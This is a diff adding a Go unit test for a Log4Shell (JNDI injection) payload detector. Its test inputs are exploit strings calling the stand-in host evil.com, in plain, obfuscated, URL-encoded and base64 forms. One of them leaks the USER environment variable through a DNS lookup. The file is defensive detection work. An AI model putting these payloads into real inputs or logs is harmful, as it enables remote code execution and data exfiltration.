@@ -0,0 +1,86 @@
+// Copyright © 2021 Joel Baranick <jbaranick@gmail.com>
+// SPDX-License-Identifier: Apache-2.0
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at:
+//
+// 	  http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package lib
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestFindJndiPayloads(t *testing.T) {
+	tests := []struct {
+		text     string
+		expected []JndiPayload
+	}{
+		{
+			text: "GET /?q=${jndi:ldap://evil.com:1389/a} HTTP/1.1",
+			expected: []JndiPayload{{
+				Payload: "${jndi:ldap://evil.com:1389/a}", Deobfuscated: "${jndi:ldap://evil.com:1389/a}",
+				Protocol: "ldap", Host: "evil.com", Port: "1389",
+			}},
+		},
+		{
+			text: "${${lower:j}ndi:${lower:L}dap://evil.com/a}",
+			expected: []JndiPayload{{
+				Payload: "${${lower:j}ndi:${lower:L}dap://evil.com/a}", Deobfuscated: "${jndi:ldap://evil.com/a}", Obfuscated: true,
+				Protocol: "ldap", Host: "evil.com",
+			}},
+		},
+		{
+			text: "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.com/a}",
+			expected: []JndiPayload{{
+				Payload: "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.com/a}", Deobfuscated: "${jndi:rmi://evil.com/a}", Obfuscated: true,
+				Protocol: "rmi", Host: "evil.com",
+			}},
+		},
+		{
+			text: "${${env:X:-j}ndi:dns://${env:USER}.evil.com}",
+			expected: []JndiPayload{{
+				Payload: "${${env:X:-j}ndi:dns://${env:USER}.evil.com}", Deobfuscated: "${jndi:dns://<env:USER>.evil.com}", Obfuscated: true,
+				Protocol: "dns", Host: "<env:USER>.evil.com",
+			}},
+		},
+		{
+			text: "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D HTTP/1.1",
+			expected: []JndiPayload{{
+				Payload: "${jndi:ldap://evil.com/a}", Deobfuscated: "${jndi:ldap://evil.com/a}", Obfuscated: true, Encodings: []string{"url"},
+				Protocol: "ldap", Host: "evil.com",
+			}},
+		},
+		{
+			text: "User-Agent: eD0ke2puZGk6bGRhcDovL2V2aWwuY29tOjEzODkvYX0=",
+			expected: []JndiPayload{{
+				Payload: "${jndi:ldap://evil.com:1389/a}", Deobfuscated: "${jndi:ldap://evil.com:1389/a}", Obfuscated: true, Encodings: []string{"base64"},
+				Protocol: "ldap", Host: "evil.com", Port: "1389",
+			}},
+		},
+		{
+			text: "${jndi:ldap://evil.com/a",
+			expected: []JndiPayload{{
+				Payload: "${jndi:ldap://evil.com/a", Deobfuscated: "${jndi:ldap://evil.com/a}", Obfuscated: true,
+				Protocol: "ldap", Host: "evil.com",
+			}},
+		},
+		{
+			text: "user ${env:USER} logged in with 100% success",
+		},
+	}
+	for _, test := range tests {
+		if actual := FindJndiPayloads(test.text); !reflect.DeepEqual(actual, test.expected) {
+			t.Errorf("%s: expected %+v, got %+v", test.text, test.expected, actual)
+		}
+	}
+}